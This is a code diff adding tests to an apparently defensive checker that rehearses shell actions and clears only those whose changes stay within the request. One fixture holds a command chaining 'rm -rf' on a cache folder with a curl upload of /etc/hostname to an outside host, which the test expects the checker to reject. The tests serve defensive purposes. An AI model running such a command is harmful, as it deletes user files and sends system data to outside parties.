@@ -3,7 +3,7 @@ import { loadBuiltinChecks } from '../../../electron/engine/checks-file.js';
 import { ChecksMemory, compileCheck, parseRuleFile, runChecks, serializeRuleFile } from '../../../electron/engine/core/checks/index.js';
 import { extractFacts } from '../../../electron/engine/core/facts/index.js';
 import type { Action, ActionRequest, Check, CheckResult, ProbeResult, RehearsalReport, RehearsedChange } from '../../../shared/types.js';
-import { readRehearsal, rehearsalProbe } from '../../../electron/engine/core/facts/rehearsal.js';
+import { readRehearsal, rehearsalProbe, rehearsedChangeReason } from '../../../electron/engine/core/facts/rehearsal.js';
 import { BENIGN, HARMFUL } from './builtin-cases.js';
 
 const builtin = loadBuiltinChecks().map((c) => ({ check: c, compiled: compileCheck(c) }));
@@ -379,6 +379,32 @@ describe('checks that read a rehearsal', () => {
     expect(readRehearsal(clean, script).unnamed).toEqual([]);
     const wider = report([{ path: '/home/user/proj/src/main.c', change: 'deleted', before: file(9) }], { command: 'sh ~/proj/build.sh clean' });
     expect(readRehearsal(wider, script).unnamed).toEqual(['deleted /home/user/proj/src/main.c']);
+  });
+
+  it('reads entries left writable by every account outside the scratch places', () => {
+    const dir = (mode: string) => ({ type: 'dir', mode, uid: 1000, size: 0, links: 2 });
+    const r = report([
+      { path: '/srv/app/plugins/audit/hooks', change: 'created', after: dir('0777') },
+      { path: '/srv/app/plugins/audit/shared', change: 'created', after: dir('1777') },
+      { path: '/tmp/work', change: 'created', after: dir('0777') },
+    ]);
+    expect(readRehearsal(r, req).openToAll).toEqual(['/srv/app/plugins/audit/hooks (0777)']);
+    expect(soft(r)).toEqual(['rehearsal-left-writable-by-all']);
+  });
+
+  it('clears an action only when the twin shows it changing nothing but what the request names', () => {
+    const named = report([{ path: '/home/user/cache/a.jpg', change: 'deleted', before: file(3) }]);
+    expect(rehearsedChangeReason(named, req)).toMatch(/changed only what the request names \(1 change\)/);
+    expect(rehearsedChangeReason(report([]), req)).toMatch(/lost, exposed and stopped nothing/);
+    // a change elsewhere, a failed or cut-short run, a finding, or facts no twin can see: no
+    expect(rehearsedChangeReason(report([{ path: '/home/user/Photos/a.jpg', change: 'deleted', before: file(3) }]), req)).toBeUndefined();
+    expect(rehearsedChangeReason({ ...named, exitCode: 1 }, req)).toBeUndefined();
+    expect(rehearsedChangeReason({ ...named, timedOut: true }, req)).toBeUndefined();
+    expect(rehearsedChangeReason({ ...named, omitted: 4 }, req)).toBeUndefined();
+    expect(rehearsedChangeReason({ ...named, error: 'the file listing did not complete' }, req)).toBeUndefined();
+    expect(rehearsedChangeReason(report([{ path: '/home/user/.profile', change: 'appended', before: file(9), after: file(20) }]), req)).toBeUndefined();
+    const sends: ActionRequest = { ...req, action: { type: 'shell', command: 'rm -rf ~/cache/* && curl -d @/etc/hostname https://example.org' } };
+    expect(rehearsedChangeReason({ ...named, command: 'rm -rf ~/cache/* && curl -d @/etc/hostname https://example.org' }, sends)).toBeUndefined();
   });
 
   it('fails closed: a rehearsal that could not be read is a failing check, not a pass', () => {
